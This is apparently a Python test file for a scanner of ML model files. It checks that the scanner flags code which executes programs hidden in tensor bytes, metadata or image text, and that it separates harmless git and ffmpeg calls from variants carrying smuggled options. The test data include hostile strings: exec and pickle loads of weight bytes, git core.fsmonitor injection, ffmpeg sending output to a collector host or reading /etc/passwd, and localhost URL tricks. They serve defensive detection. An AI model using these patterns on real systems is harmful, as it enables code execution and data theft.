"""Programs in the values of model files, and commands that only ask."""

from __future__ import annotations

from support.cases import check_each

from modelaudit.languages.python.analysis import analyze_source


def list_uses(source: str) -> set[tuple[str, str]]:
    """Return the uses that a source is found to have, by use and name."""
    return {(each.use, each.name) for each in analyze_source(source).mentions}


@check_each(
    "source, name",
    [
        ("import pickle, gguf\nf = gguf.GGUFReader('m.gguf').fields['a.b']\npickle.loads(bytes(f.parts[i][0] for i in f.data))", "pickle.loads"),
        ("import numpy as np\nb = np.packbits(np.load('w.npy').view('<u4').ravel() & 1).tobytes()\nexec(b)", "builtins.exec"),
        ("import numpy as np\nc = compile(np.fromfile('w.bin', 'u1').tobytes(), 'x', 'exec')", "builtins.compile"),
        ("from safetensors import safe_open\nimport dill\nwith safe_open('m.safetensors', 'np') as f:\n    dill.loads(f.get_tensor('k').tobytes())", "dill.loads"),
        ("import h5py, marshal\nmarshal.loads(h5py.File('m.h5')['a'].attrs['b'])", "marshal.loads"),
        ("import io, joblib, torch\ns = torch.load('m.pt', weights_only=True)\njoblib.load(io.BytesIO(s['x'].numpy().tobytes()))", "joblib.load"),
        ("import onnxruntime as o\nm = o.InferenceSession('m.onnx').get_modelmeta().custom_metadata_map\neval(m['pre'])", "builtins.eval"),
        ("from PIL import Image\nimport os\nos.system(Image.open('logo.png').text['c'])", "os.system"),
    ],
)  # fmt: skip
def test_program_in_values_of_a_model_file_is_found(source: str, name: str) -> None:
    assert ("of-model-data", name) in list_uses(source)


@check_each(
    "source",
    [
        "import torch\nc = torch.load('m.pt', weights_only=True)\nn = torch.load(c['path'], weights_only=True)",
        "import numpy as np, subprocess\nw = np.load('w.npy')\nsubprocess.run(['aplay', str(w.shape)])",
        "import torch, ast\nast.parse(torch.load('m.pt')['source'])",
        "import pickle, numpy as np\npickle.dumps(np.load('w.npy'))",
    ],
)
def test_data_that_is_not_run_is_no_program(source: str) -> None:
    assert not any(use == "of-model-data" for use, _ in list_uses(source))


@check_each(
    "command",
    [
        "['git', 'rev-parse', '--short', 'HEAD'], text=True, stderr=subprocess.DEVNULL",
        "['git', 'describe', '--always', '--dirty'], cwd=folder",
        "('nvidia-smi', '--query-gpu=name,memory.total', '--format=csv,noheader')",
        "['ffmpeg', '-nostdin', '-i', path, '-f', 's16le', '-ac', '1', '-ar', str(rate), '-'], capture_output=True",
        "['ffmpeg', '-version']",
    ],
)
def test_program_that_only_asks_or_converts_is_no_command(command: str) -> None:
    source = f"import subprocess\ndef f(path, rate, folder):\n    subprocess.run({command})\n"
    assert ("call", "subprocess.run") not in list_uses(source)


@check_each(
    "command",
    [
        "['git', '-c', 'core.fsmonitor=x', 'rev-parse', 'HEAD']",
        "['git', 'log', '--ext-diff']",
        "['git', 'clone', 'https://collector.example/x']",
        "['git', 'rev-parse', word]",
        "['git', 'rev-parse', 'HEAD'], env={'GIT_EXEC_PATH': '.'}",
        "['git', 'rev-parse', 'HEAD'], executable='./git'",
        "'git rev-parse HEAD', shell=True",
        "['./ffmpeg', '-i', path, '-']",
        "['ffmpeg', '-i', path, '-f', 'mp3', 'http://collector.example/x']",
        "['ffmpeg', '-i', path, '/etc/passwd']",
        "['ffmpeg', '-filter_script', path]",
        "[program, '-version']",
    ],
)
def test_program_with_other_words_stays_a_command(command: str) -> None:
    source = f"import subprocess\ndef f(path, word, program):\n    subprocess.run({command})\n"
    assert ("call", "subprocess.run") in list_uses(source)


@check_each(
    "address, is_found",
    [
        ("http://localhost:8000/health", False),
        ("http://127.0.0.1/x", False),
        ("http://localhost.collector.example/x", True),
        ("http://localhost@collector.example/x", True),
        ("http://collector.example/x", True),
    ],
)
def test_request_to_this_machine_uses_no_network(address: str, is_found: bool) -> None:
    uses = list_uses(f"import urllib.request\nurllib.request.urlopen('{address}')\n")
    assert (("call-at-import", "urllib.request.urlopen") in uses) is is_found


@check_each(
    "expression, is_found",
    [("row.rule", True), ("'age > 3'", False), ("row['rule']", True)],
)
def test_query_of_a_cell_is_a_text_that_runs(expression: str, is_found: bool) -> None:
    source = (
        "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\n"
        f"for row in pd.read_csv('rules.csv').itertuples():\n    df.query({expression}, engine='python')\n"
    )
    assert (("call-at-import", "pandas.DataFrame.query(text)") in list_uses(source)) is is_found
